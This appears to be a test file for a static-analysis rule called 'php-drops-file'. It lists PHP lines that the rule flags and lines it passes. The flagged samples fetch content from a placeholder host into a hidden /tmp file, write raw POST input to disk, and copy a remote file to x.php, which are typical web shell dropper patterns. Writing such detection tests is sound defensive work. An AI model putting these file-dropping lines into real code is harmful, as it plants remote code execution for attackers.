<?php
// ruleid: php-drops-file
file_put_contents('/tmp/.x', file_get_contents('https://example.invalid/x'));
// ruleid: php-drops-file
file_put_contents($path, $_POST['body']);
// ruleid: php-drops-file
copy('https://example.invalid/x', 'x.php');
// ok: php-drops-file
file_put_contents($path, json_encode($data));
// ok: php-drops-file
copy($a, $b);
